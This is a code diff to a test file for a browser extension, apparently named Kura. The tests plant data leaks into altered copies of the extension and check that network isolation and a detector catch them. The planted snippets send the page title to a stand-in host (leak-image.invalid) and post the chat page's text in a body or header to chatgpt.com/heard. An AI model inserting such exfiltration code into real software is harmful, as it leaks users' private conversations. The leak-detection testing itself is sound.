@@ -4,9 +4,17 @@
  * `KURA_IN_FULL=1`.
  */
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { alteredBuild, withoutPolicy } from './isolation/altered-build';
-import { launchRecorded, outOfTurn, runEverything, runWithout, startGround, type Ground } from './isolation/egress';
-import { captureOn, markers } from './isolation/full-run';
+import { alteredBuild, withoutPolicy, type AlteredBuild } from './isolation/altered-build';
+import {
+  launchRecorded,
+  outOfTurn,
+  runEverything,
+  runWithout,
+  spokenIn,
+  startGround,
+  type Ground,
+} from './isolation/egress';
+import { captureOn } from './isolation/full-run';
 import { strangersIn } from './isolation/recording-proxy';
 import { configuredSites, practiceSite, practiceSites } from './practice-sites';
 
@@ -35,9 +43,10 @@ test(
     expect(strangers).toEqual({});
     expect(outOfTurn(told, ground.practice.hosts)).toEqual([]);
     expect(told.exchanges.some(({ host }) => host === 'huggingface.co')).toBe(true);
-    // What a site's own page asks of its site holds no word of a chat here, so that nothing of Kura's could hide in it.
-    const spoken = told.requests.filter(({ path }) => markers.some(word => decodeURIComponent(path).includes(word)));
-    expect(spoken).toEqual([]);
+    // What a site's own page asks of its site holds no word of a chat here, in no address, header or body, so that nothing of Kura's
+    // could hide in it.
+    expect(told.requests.length).toBeGreaterThan(0);
+    expect(spokenIn(told.requests)).toEqual([]);
   },
 );
 
@@ -50,13 +59,10 @@ describe('leaks that are planted', () => {
     'welcome.html': (text: string) => text.replace('</head>', '<script src="/planted.js"></script></head>'),
   };
 
-  /** Whom a copy with all of them turned to, beside the site that was open. */
-  async function heardOf(withPolicy: boolean): Promise<readonly string[]> {
+  /** What the same chat is kept with, by a copy into which this was planted. */
+  async function keepWith(plant: (copy: AlteredBuild) => void): Promise<void> {
     const copy = alteredBuild();
-    const before = ground.proxy.exchanges.length;
-    for (const [file, plant] of Object.entries(plants)) copy.edit(file, plant);
-    copy.add('planted.js', `new Image().src = 'https://leak-image.invalid/?' + encodeURIComponent(document.title);`);
-    if (!withPolicy) withoutPolicy(copy);
+    plant(copy);
     const kura = await launchRecorded(ground, copy.folder);
     try {
       await captureOn(kura, [practiceSite('ChatGPT, classic')]);
@@ -65,6 +71,16 @@ describe('leaks that are planted', () => {
       await kura.close();
       copy.remove();
     }
+  }
+
+  /** Whom a copy with all of them turned to, beside the site that was open. */
+  async function heardOf(withPolicy: boolean): Promise<readonly string[]> {
+    const before = ground.proxy.exchanges.length;
+    await keepWith(copy => {
+      for (const [file, plant] of Object.entries(plants)) copy.edit(file, plant);
+      copy.add('planted.js', `new Image().src = 'https://leak-image.invalid/?' + encodeURIComponent(document.title);`);
+      if (!withPolicy) withoutPolicy(copy);
+    });
     return Object.keys(strangersIn(ground.proxy.exchanges.slice(before), new Set(ground.practice.hosts)));
   }
 
@@ -73,6 +89,23 @@ describe('leaks that are planted', () => {
     expect(heard).toContain('leak-page.invalid');
     expect(heard).not.toContain('leak-background.invalid');
     expect(heard).not.toContain('leak-image.invalid');
+  });
+
+  test.each([
+    ['in a body', `{ method: 'POST', body: document.body.innerText }`],
+    ['in the escapes of a body', `{ method: 'POST', body: escape(document.body.innerText) }`],
+    ['in a header', `{ headers: { 'x-told': encodeURIComponent(document.body.innerText).slice(0, 6000) } }`],
+  ])('one that goes to the very site that is open is seen, %s', async (_, what) => {
+    const before = ground.practice.requests.length;
+    await keepWith(copy =>
+      copy.edit(
+        'content-scripts/chatgpt.js',
+        text => `${text};setInterval(() => fetch('https://chatgpt.com/heard', ${what}).catch(() => {}), 500);`,
+      ),
+    );
+    const spoken = spokenIn(ground.practice.requests.slice(before));
+    expect(spoken).toContain('chatgpt.com/heard');
+    expect(new Set(spoken)).toEqual(new Set(['chatgpt.com/heard']));
   });
 
   test('and named, too, where there is no policy', async () => {
